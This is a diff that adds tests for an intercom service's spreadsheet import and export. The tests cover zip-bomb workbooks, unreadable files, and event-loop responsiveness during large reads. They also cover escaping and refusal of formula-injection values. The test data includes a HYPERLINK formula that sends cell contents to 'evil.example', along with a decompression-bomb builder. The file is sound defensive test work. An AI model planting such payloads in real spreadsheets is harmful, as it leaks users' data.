@@ -1,7 +1,12 @@
 import ExcelJS from 'exceljs';
 import t from 'tap';
+import { subscribe, unsubscribe } from 'node:diagnostics_channel';
+import { deriveDeviceKey } from '../../src/devices/device-key.js';
 import { writeXlsx, XLSX_TYPE } from '../../src/shared/xlsx.js';
-import { startTestService } from '../helpers/service.js';
+import { SPREADSHEET_READING_CHANNEL } from '../../src/shared/sheets.js';
+import { RawMqtt } from '../helpers/raw-mqtt.js';
+import { FACTORY_SECRET, startTestService } from '../helpers/service.js';
+import { part, repeatedPart, withSheet } from '../helpers/zip.js';
 
 const svc = await startTestService(t);
 const alice = await svc.createInstaller('Alice');
@@ -152,4 +157,140 @@ t.test('an import of many residents gives an affected door phone one provisionin
   t.equal(jobs.length, 1, '300 residents, one job for the offline door phone');
   const view = (await api('GET', '/devices/0C1112000003/directory')).body;
   t.equal(view.documents.find((d: any) => d.name === 'contacts').content.apartments.length, 300, 'its contact list has every apartment');
+});
+
+const importXlsx = (siteId: string, book: Buffer) => api('POST', `/sites/${siteId}/import`, { raw: book, contentType: XLSX_TYPE });
+const ROW_XML = '<row r="1"><c r="A1" t="inlineStr"><is><t>Building</t></is></c></row>';
+
+t.test('a workbook whose sheet1.xml unzips to 149 MB is refused with 413 spreadsheet_too_large, naming the limit and the size', async (t) => {
+  const site = await newSite('Bomb');
+  const workbook = await writeXlsx('Residents', [['Building', 'Apt']]);
+  const sheet = repeatedPart('sheet', ROW_XML, 149 * 1024 * 1024);
+  const bomb = withSheet(workbook, sheet);
+  t.ok(bomb.length < 1024 * 1024, `${bomb.length} bytes unzip to ${sheet.size}`);
+  const res = await importXlsx(site.id, bomb);
+  t.equal(res.status, 413);
+  t.match(res.body.error, { code: 'spreadsheet_too_large', message: /sheet1\.xml unzips to 149\.\d MiB; at most 32\.0 MiB per part/, details: { limit: 32 * 1024 * 1024, found: sheet.size } });
+  // The same bomb with a header claiming 4 KiB is caught while inflating, in the worker.
+  const liar = await importXlsx(site.id, withSheet(workbook, repeatedPart('sheet', ROW_XML, 149 * 1024 * 1024, 4096)));
+  t.equal(liar.status, 400);
+  t.match(liar.body.error, { code: 'xlsx_invalid', message: /unzips to more than its header declares/ });
+  t.equal(await count('buildings where site_id = $1', [site.id]), 0, 'nothing was written');
+});
+
+t.test("a workbook exceljs cannot read is 400 xlsx_invalid in this service's words, never the library's", async (t) => {
+  const site = await newSite('Broken');
+  const sheet = '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c t="inlineStr"><is><t>Building</t></is></c></row></sheetData></worksheet>';
+  const res = await importXlsx(site.id, withSheet(await writeXlsx('Residents', [['Building']]), part('sheet', sheet)));
+  t.equal(res.status, 400);
+  t.equal(res.body.error.code, 'xlsx_invalid');
+  t.notMatch(res.body.error.message, /Cannot read|undefined|'col'/);
+});
+
+t.test('while a large workbook is read, an MQTT CONNECT and /readyz answer before the upload does', async (t) => {
+  const site = await newSite('Large');
+  const mac = '0C1112000009';
+  await svc.addDevice(alice.token, mac, { type: 0, name: 'Probe' });
+  // A valid workbook within the limits that is slow to read: a 20 MiB sheet (from 70 KB) that exceljs
+  // reads in full (seconds) before the import refuses it for want of a Building column; nothing is written.
+  // The sheet is the archive's last part: read on the event loop, nothing would yield after it.
+  const HEAD = '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>';
+  const sheet = repeatedPart('sheet', '<row r="1"><c r="A1" t="inlineStr"><is><t>Apt</t></is></c></row>', 20 * 1024 * 1024, undefined, HEAD, '</sheetData></worksheet>');
+  const book = withSheet(await writeXlsx('Residents', [['Building']]), sheet, { last: true });
+
+  const order: string[] = [];
+  const upload = importXlsx(site.id, book).then((r) => {
+    order.push('upload');
+    return r;
+  });
+  // The probes start once a worker has the file (or, reading on the event loop, once the upload answered).
+  const handedOver = new Promise<void>((resolve) => {
+    const onReading = () => {
+      unsubscribe(SPREADSHEET_READING_CHANNEL, onReading);
+      resolve();
+    };
+    subscribe(SPREADSHEET_READING_CHANNEL, onReading);
+    t.teardown(() => unsubscribe(SPREADSHEET_READING_CHANNEL, onReading));
+  });
+  await Promise.race([handedOver, upload]);
+  const ready = svc.api('GET', '/readyz', { token: null }).then((r) => {
+    order.push('readyz');
+    return r.status;
+  });
+  const connack = (async () => {
+    const raw = await RawMqtt.connect(svc.service.ports.mqtt);
+    t.teardown(() => raw.end());
+    raw.send(raw.connectPacket(mac, mac, deriveDeviceKey(FACTORY_SECRET, mac)));
+    const packet = await raw.next('connack', 120_000);
+    order.push('connack');
+    return packet?.returnCode;
+  })();
+  const [res, readyStatus, returnCode] = await Promise.all([upload, ready, connack]);
+  t.equal(res.status, 400);
+  t.equal(res.body.error.details.invalid[0].reason, 'the header has no Building column', 'the file was read in full');
+  t.equal(readyStatus, 200);
+  t.equal(returnCode, 0, 'the door phone is connected');
+  t.same(order.slice(-1), ['upload'], `readyz and CONNACK came while the workbook was being read (order: ${order.join(', ')})`);
+});
+
+const DANGEROUS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', '+1+1', '-2+3', '@SUM(A1)', '\tTab', '\rReturn'];
+
+t.test("the export writes every cell that begins like a formula with a leading ', in CSV and in .xlsx", async (t) => {
+  const site = await newSite('Escapes');
+  const csv = ['Building,Apt,FirstName,LastName,TelephoneCallingCode,MobileNumber', ...DANGEROUS.map((_, i) => `Tower,${101 + i},First,Last${i},+49,1701234567`)].join('\n');
+  t.equal((await importCsv(site.id, csv)).status, 200);
+  // Names from before this service refused formula-like names: written straight into the database.
+  for (const [i, name] of DANGEROUS.entries()) await svc.sql('update residents set first_name = $1 where site_id = $2 and last_name = $3', [name, site.id, `Last${i}`]);
+
+  const exported = await exportCsv(site.id);
+  for (const name of DANGEROUS) t.ok(exported.includes(`'${name}`.replace(/"/g, '""')), `CSV: ${JSON.stringify(name)} is written after a '`);
+  t.notMatch(exported, /(^|,)"?[=+\-@\t\r]/m, 'no CSV cell begins like a formula');
+  t.match(exported, /,'\+49,/, "the calling code too: '+49");
+
+  const res = await fetch(`${svc.httpUrl}/api/v1/sites/${site.id}/export?format=xlsx`, { headers: { authorization: `Bearer ${alice.token}` } });
+  const book = new ExcelJS.Workbook();
+  await book.xlsx.load(await res.arrayBuffer());
+  const cells: string[] = [];
+  book.worksheets[0]!.eachRow((row) => row.eachCell((c) => void cells.push(String(c.value))));
+  // (XML reads a carriage return as a line feed.)
+  for (const name of DANGEROUS) t.ok(cells.includes(`'${name}`.replace(/\r/g, '\n')), `xlsx: ${JSON.stringify(name)} is written after a '`);
+  t.notOk(cells.some((c) => /^[=+\-@\t\r]/.test(c)), 'no xlsx cell begins like a formula');
+
+  // Importing the export back: the calling code reads as +49; the formula-like names are refused, each by line and column.
+  const again = await importCsv(site.id, exported);
+  t.equal(again.status, 400);
+  t.equal(again.body.error.code, 'template_invalid');
+  const refused = again.body.error.details.invalid.filter((f: any) => f.column === 'FirstName');
+  t.same(refused.map((f: any) => f.value), ['=HYPERLINK("http://evil.example/?"&A1,"Click")', '+1+1', '-2+3', '@SUM(A1)'], 'tab and carriage return are trimmed off like any surrounding space');
+  t.match(refused[0].reason, /must not begin with =, \+, - or @/);
+  t.notOk(again.body.error.details.invalid.some((f: any) => f.column === 'TelephoneCallingCode'), "'+49 reads as the calling code +49");
+});
+
+t.test('import and API refuse names that begin like a formula, with the line and column; phone numbers keep their +', async (t) => {
+  const site = await newSite('Refusals');
+  const csv = ['Building,Apt,AptName,FirstName,LastName,TelephoneCallingCode,MobileNumber', 'Tower,101,,Lily,Green,+49,1701234567', 'Tower,102,,"=HYPERLINK(""http://evil.example/?""&A1,""Click"")",Green,,', '@Tower,103,,,,,', 'Tower,104,+Penthouse,,,,'].join('\n');
+  const res = await importCsv(site.id, csv);
+  t.equal(res.status, 400);
+  t.same(
+    res.body.error.details.invalid.map((f: any) => [f.line, f.column]),
+    [
+      [3, 'FirstName'],
+      [4, 'Building'],
+      [5, 'AptName'],
+    ],
+  );
+  const ok = await importCsv(site.id, csv.split('\n').slice(0, 2).join('\n'));
+  t.equal(ok.status, 200, 'the +49 calling code is data, not a formula');
+  const building = (await api('GET', `/sites/${site.id}/buildings`)).body.items[0];
+  const apartment = (await api('GET', `/buildings/${building.id}/apartments`)).body.items[0];
+  const resident = (await api('GET', `/apartments/${apartment.id}/residents`)).body.items[0];
+  t.match(resident.mobile, { countryCode: '+49' });
+
+  const named = await api('POST', `/apartments/${apartment.id}/residents`, { body: { firstName: '=HYPERLINK("http://evil.example/?"&A1,"Click")', lastName: 'Evil' } });
+  t.equal(named.status, 400);
+  t.match(named.body.error, { code: 'validation_error', message: /firstName: must not begin with =, \+, - or @/ });
+  t.equal((await api('PATCH', `/residents/${resident.id}`, { body: { lastName: '-1' } })).status, 400);
+  t.equal((await api('POST', `/sites/${site.id}/buildings`, { body: { name: '@Tower' } })).status, 400);
+  t.equal((await api('PATCH', `/apartments/${apartment.id}`, { body: { name: '+Penthouse' } })).status, 400);
+  t.equal((await api('PATCH', `/residents/${resident.id}`, { body: { lastName: 'Green-Smith' } })).status, 200, 'a - inside a name is fine');
 });
